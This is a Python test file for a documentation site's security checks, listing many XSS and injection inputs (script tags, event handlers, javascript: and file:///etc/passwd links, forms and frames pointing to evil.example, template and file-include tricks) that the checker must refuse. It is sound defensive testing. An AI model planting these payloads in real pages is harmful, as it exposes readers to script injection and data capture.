"""What a stranger may propose and a reader must never get. Each input was tried against the real build."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from conftest import ROOT, diagnostics

BASE = ROOT / "tests" / "fixtures" / "rulebook"
SVG = '<svg xmlns="http://www.w3.org/2000/svg"'
IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(1)</script>"
JS = "javascript:alert(1)"
# Most of these ran in a browser when they were built with the checks off.
REFUSED: dict[str, tuple[str, str]] = {
    "script": (SCRIPT, "SEC001"),
    "script in a sentence": (f"Ask {SCRIPT} now.", "SEC001"),
    "script in capitals": ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "SEC001"),
    "picture with a handler": (f"Ask {IMG} now.", "SEC001"),
    "handler behind a slash": ("Ask <img/src=x/onerror=alert(1)> now.", "SEC001"),
    "handler on its own line": ("Ask <img\nsrc=x\nonerror=alert(1)> now.", "SEC001"),
    "svg": ("<svg onload=alert(1)>", "SEC001"),
    "frame": ("<iframe src=https://evil.example></iframe>", "SEC001"),
    "form": ('<form action="https://evil.example"><input name=a></form>', "SEC001"),
    "object": ("<object data=x></object>", "SEC001"),
    "base": ('<base href="https://evil.example/">', "SEC001"),
    "refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "SEC001"),
    "style sheet": ('<link rel="stylesheet" href="//evil.example/x.css">', "SEC001"),
    "style": ('Ask <span style="position:fixed">them</span>.', "SEC001"),
    "handler on an allowed tag": ('Ask <span onclick="alert(1)">them</span>.', "SEC001"),
    "handler on a box": ('<div markdown onclick="alert(1)">\n\nAsk.\n\n</div>', "SEC001"),
    "bracket in a value": ('<div title="<" onmouseover=alert(1) markdown>\n\nAsk.\n\n</div>', "SEC001"),
    "bracket in a value, closing": ('<div title=">" onmouseover=alert(1)>\n\nAsk.\n\n</div>', "SEC001"),
    "raw link": (f'Ask <a href="{JS}">them</a>.', "SEC001"),
    "unknown element": ("<x-y onclick=alert(1)>Ask.</x-y>", "SEC001"),
    "character data": (f"<![CDATA[{SCRIPT}]]>", "SEC001"),
    "instruction": (f"<?php {SCRIPT} ?>", "SEC001"),
    "backtick in a tag": ("Ask <img`src=x onerror=alert(1)>.", "SEC001"),
    "comment that browsers close early": (f"<!-->{SCRIPT}-->", "SEC001"),
    "comment that browsers close with a bang": (f"<!-- x --!>{IMG} -->", "SEC001"),
    "comment that one reader leaves open": (f"Ask. <!-- Ask\n\n{IMG}", "SEC001"),
    "code in raw HTML": (f"<div>\n`{IMG}`\n</div>", "SEC001"),
    "code in raw HTML, with blank lines": (f"<div>\n\n`{IMG}`\n\n</div>", "SEC001"),
    "code behind a box": ("<div markdown></div> `<p onclick=alert(1)>x</p>`", "SEC001"),
    "code behind a comment": ("<!-- x --> `<div onclick=alert(1)>x</div>`", "SEC001"),
    "backtick that is escaped": (f"Ask \\`{IMG}\\`.", "SEC001"),
    "code across lines": (f"Ask a ` b\nc ` {IMG} ` d", "SEC001"),
    "box in code across lines": ("Ask `a\n<div onclick=alert(1)>x</div>\nb`", "SEC001"),
    "uneven backticks": (f"Ask ``a` {IMG} `b.", "SEC001"),
    "code in a heading": (f"## A ` b\n{IMG} ` c", "SEC001"),
    "code in a tab's title": (f'=== "A ` b"\n    {IMG} ` c', "SEC001"),
    "tag in a box's title": (f'!!! note "{IMG}"\n\n    Ask.', "SEC001"),
    "raw text switched on": (f'<div markdown="0">\n\n`{IMG}`\n\n</div>', "SEC001"),
    "anchor of the crisis lines": ('<div id="crisis" markdown>\n\nAsk.\n\n</div>', "SEC001"),
    "box left open": ("<details markdown>\n<summary>More</summary>\n\nAsk.", "SEC011"),
    "box closed too often": ("Ask.\n\n</div></div>", "SEC011"),
    "fence with many words": (f"```html a=b c d-\n\n{SCRIPT}\n\n```", "SEC007"),
    "fence in a comment": (f"<!--\n```\n-->\n\n```\n{SCRIPT}\n```", "SEC007"),
    "fence in raw HTML": (f"<div>\n```\n</div>\n\n```\n{SCRIPT}\n```", "SEC007"),
    "fence behind a bullet": (f"- ```text\n  x\n  ```\n\n```\n{SCRIPT}\n```", "SEC007"),
    "fence closed further in": (f'~~~\n=== "{SCRIPT}\n  ~~~', "SEC007"),
    "fence set in": (f" ```\n{SCRIPT}\n```", "SEC001"),
    "link": (f"Ask [them]({JS}).", "SEC002"),
    "link in mixed case": ("Ask [them](JaVaScRiPt:alert(1)).", "SEC002"),
    "link with an entity": ("Ask [them](&#106;avascript:alert(1)).", "SEC002"),
    "link with an entity for its colon": ("Ask [them](javascript&colon;alert(1)).", "SEC002"),
    "link with a tab": ("Ask [them](java&Tab;script:alert(1)).", "SEC002"),
    "link across lines": ("Ask [them](java\nscript:alert(1)).", "SEC002"),
    "link in angle brackets": (f"Ask [them](< {JS}>).", "SEC002"),
    "link behind a control character": (f"Ask [them](\x01{JS}).", "SEC002"),
    "link with many brackets": (f"Ask [a [b [c] d] e]({JS}).", "SEC002"),
    "link around a picture": (f"[![Four circles](assets/circles.svg)]({JS})", "SEC002"),
    "link behind an open bracket": (f"Ask ](a [them]({JS}).", "SEC002"),
    "definition": (f"Ask [them][l].\n\n[l]: {JS}", "SEC002"),
    "definition with a backtick": (f'Ask [them][l`].\n\n[l`]: {JS} "`"', "SEC002"),
    "definition on two lines": (f"Ask [them][l].\n\n[l]:\n  {JS}", "SEC002"),
    "definition behind another": (f"Ask [them][l].\n\n[l]: \n[l]: {JS}", "SEC002"),
    "definition in a quote": (f"Ask [them][l].\n\n> [l]: {JS}", "SEC002"),
    "definition in a box": (f"Ask [them][l].\n\n<div markdown>[l]: {JS}</div>", "SEC002"),
    "data": ("Ask [them](data:text/html;base64,PHNjcmlwdD4=).", "SEC002"),
    "data in a picture": ("![Four circles](data:image/svg+xml;base64,PHN2Zz4=)", "SEC002"),
    "vbscript": ("Ask [them](vbscript:msgbox(1)).", "SEC002"),
    "file": ("Ask [them](file:///etc/passwd).", "SEC002"),
    "bare address": (f"Ask <{JS}>.", "SEC002"),
    "picture from elsewhere": ("![Four circles](https://evil.example/x.png)", "SEC003"),
    "picture without a scheme": ("![Four circles](//evil.example/x.png)", "SEC003"),
    "picture with a backslash": ("![Four circles](/\\evil.example/x.png)", "SEC003"),
    "picture with an entity": ("![Four circles](&#47;/evil.example/x.png)", "SEC003"),
    "picture behind an open bracket": ("Ask ](a ![b](//evil.example/x.png)", "SEC003"),
    "picture with brackets": ("![a [b] c](https://evil.example/x.png)", "SEC001"),
    "picture by label": ("![circles][p]\n\n[p]: https://evil.example/x.png", "SEC001"),
    "attribute": ("Ask [them](https://example.org){: onclick=alert(1) }.", "SEC004"),
    "attribute without a colon": ("Ask **them**{onclick=alert(1)}.", "SEC004"),
    "attribute of a heading": ('## A { style="position:fixed" }\n\nAsk.', "SEC004"),
    "attribute of a paragraph": ("Ask your doctor.\n{: onmouseover=alert(1) }", "SEC004"),
    "attribute behind a bracket": ('Ask **them**{: title="}" onclick=alert(1) }.', "SEC004"),
    "attribute behind another": ("Ask **a**{: .a } and **b**{: onclick=alert(1) }.", "SEC004"),
    "attribute of code": ("Ask `a`{: onclick=alert(1) }.", "SEC004"),
    "attribute of a cell": ("| a |\n|---|\n| b {: onclick=alert(1) } |", "SEC004"),
    "address as an attribute": (f"Ask [them](https://example.org){{: href={JS} }}.", "SEC004"),
    "new window": ("Ask [them](https://example.org){: target=_blank }.", "SEC004"),
    "hidden text": ("Ask your doctor.\n{: hidden }", "SEC004"),
    "crisis anchor of a heading": ("## Help {#crisis}\n\nAsk.", "SEC004"),
    "template": ("Ask {{ config.site_name }}.", "SEC005"),
    "template block": ("Ask {% include 'x' %}.", "SEC005"),
    "template left open": ("Ask {{ config\n.site_name }}.", "SEC005"),
    "other file": ('--8<-- "data/abbreviations.md"', "SEC006"),
    "other file with one dash": ('-8<- "data/abbreviations.md"', "SEC006"),
    "other file in code": ('```\n--8<-- "data/abbreviations.md"\n```', "SEC006"),
    "other files": ("--8<--\ndata/abbreviations.md\n--8<--", "SEC006"),
    "character that the renderer drops": ("Ask <im\x02g src=x onerror=alert(1)>.", "SEC008"),
    "character that turns the writing": ("Ask \u202eyour doctor.", "SEC008"),
    "character that becomes an at sign": ("Ask [\ue000murrough2013ajp].", "SEC008"),
}
HARMLESS = {
    "less than": "Is p<.05 or p < .01 enough? Is 3<4?",
    "arrows": "Ask -> now <- or <-> later.",
    "tags in code": "Ask about `<script>` and ``<img onerror=` `>``.",
    "tags in a fence": f"```html\n{SCRIPT}\n{IMG}\n{{{{ x }}}}\n[a]({JS})\n```",
    "entities": "Ask &lt;script&gt; &amp; your doctor &minus; now.",
    "comment": "Ask your doctor. <!-- to do: ask them -->",
    "box": '<div class="note" id="note-1" markdown>\n\nAsk your doctor.\n\n</div>',
    "details": "<details markdown>\n<summary>More</summary>\n\nAsk your doctor.\n\n</details>",
    "text tags": "Ask for H<sub>2</sub>O,<br>10<sup>9</sup> or <abbr>them</abbr>.",
    "web address": "Ask [the service](https://example.org/a:b?c=javascript:d#e).",
    "address with brackets": "Ask [the service](https://example.org/a_(b)).",
    "mail": "Ask [the service](mailto:help@example.org) or <help@example.org>.",
    "telephone": "Call [the service](tel:+123).",
    "own picture": "![Four circles](assets/circles.svg)",
    "classes and anchors": "## A { #a .b }\n\nAsk your doctor.\n{: .note }",
    "label": "Ask [the service][s].\n\n[s]: https://example.org/",
    "braces in code": "Ask about `{{ name }}` and `{: onclick }`.",
    "scissors in a sentence": "Ask about 8<9 -- now.",
    "line and dashes": "Ask your doctor.\n\n---\n\nAsk again – or not … “yes”.",
    "accents and signs": "Ask Zoë or Łukasz about μg, °C and 👩‍⚕️.",
    "nested fence": "- Ask:\n\n    ```text\n    your doctor\n    ```",
}


def spoken(tmp_path: Path, text: str, path: str = "docs/index.md") -> set[str]:
    """The rules that speak of a text at the end of a page, or of a whole file."""
    root = tmp_path / "tree"
    shutil.copytree(BASE, root)
    file = root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text((file.read_text("utf-8") if file.exists() else "") + text + "\n", "utf-8")
    return {d.check for d in diagnostics(root)} - {"REF007"}


@pytest.mark.parametrize("name", REFUSED)
def test_what_could_run_load_or_hide_is_refused(name: str, tmp_path: Path) -> None:
    text, rule = REFUSED[name]
    assert rule in spoken(tmp_path, text)


@pytest.mark.parametrize("name", HARMLESS)
def test_what_looks_alike_is_accepted(name: str, tmp_path: Path) -> None:
    found = spoken(tmp_path, HARMLESS[name])
    assert not {rule for rule in found if rule.startswith(("SEC", "PAG"))}


FRONT = (BASE / "docs" / "index.md").read_text("utf-8")


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("description: A page to put examples on.", "description: '\"><script>alert(1)</script>'"),
        ("description: A page to put examples on.", "description: '0;url=//e.x\" http-equiv=\"refresh'"),
        ("title: A page", f"title: {IMG}"),
        ("what: First version.", f"what: '{IMG}'"),
        ("reviewers: []", f"reviewers: ['{IMG}']"),
        ("---\n\n# A page", "...\n# It cures everyone\n---\n\n# A page"),
    ],
)
def test_front_matter_brings_no_markup(tmp_path: Path, old: str, new: str) -> None:
    assert old in FRONT
    assert "SEC009" in spoken(tmp_path, FRONT.replace(old, new, 1), "docs/other/index.md")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("docs/more.html", SCRIPT),
        ("docs/assets/more.JS", "alert(1)"),
        ("docs/assets/a.svg", f"{SVG}>{SCRIPT}</svg>"),
        ("docs/assets/a.svg", f'{SVG} onload="alert(1)"/>'),
        ("docs/assets/a.svg", f'{SVG}><a href="{JS}"/></svg>'),
        (
            "docs/assets/a.svg",
            f'{SVG}><image href="//evil.example/x"/></svg>',
        ),
        ("docs/assets/a.css", "@import '//evil.example/x.css';"),
        ("docs/assets/a.css", "p { background: url(https://evil.example/x.png) }"),
    ],
)
def test_files_beside_the_pages_run_and_load_nothing(tmp_path: Path, path: str, text: str) -> None:
    assert "SEC010" in spoken(tmp_path, text, path)


def test_no_file_of_the_building_machine_is_published(tmp_path: Path) -> None:
    root = tmp_path / "tree"
    shutil.copytree(BASE, root)
    (root / "docs" / "assets" / "secret.txt").symlink_to("/etc/hostname")
    assert {d.check for d in diagnostics(root)} - {"REF007"} == {"SEC010"}


def test_records_and_references_bring_no_markup_either(content: Path) -> None:
    for path, old, new in (
        ("data/findings/remission-ect.yml", "title: Remission", f"title: {IMG} Remission"),
        ("data/studies/hu2016.yml", "where: abstract", f"where: abstract {IMG}"),
        ("references.bib", "= {The effects", f"= {{{IMG} The effects"),
    ):
        file = content / path
        text = file.read_text("utf-8")
        assert old in text, path
        file.write_text(text.replace(old, new, 1), "utf-8")
        assert (path, "SEC001") in {(d.path, d.check) for d in diagnostics(content)}


def test_abbreviations_are_plain(content: Path) -> None:
    file = content / "data" / "abbreviations.md"
    file.write_text(file.read_text("utf-8") + f"\n{SCRIPT}\n", "utf-8")
    found = diagnostics(content)
    assert [(d.path, d.check) for d in found] == [("data/abbreviations.md", "SEC009")]


def test_a_fence_behind_a_first_line_of_blanks_is_refused(tmp_path: Path) -> None:
    text = FRONT.replace("# A page", f"    \n~~~\n{SCRIPT}\n~~~\n\n# A page")
    assert "SEC007" in spoken(tmp_path, text, "docs/other/index.md")
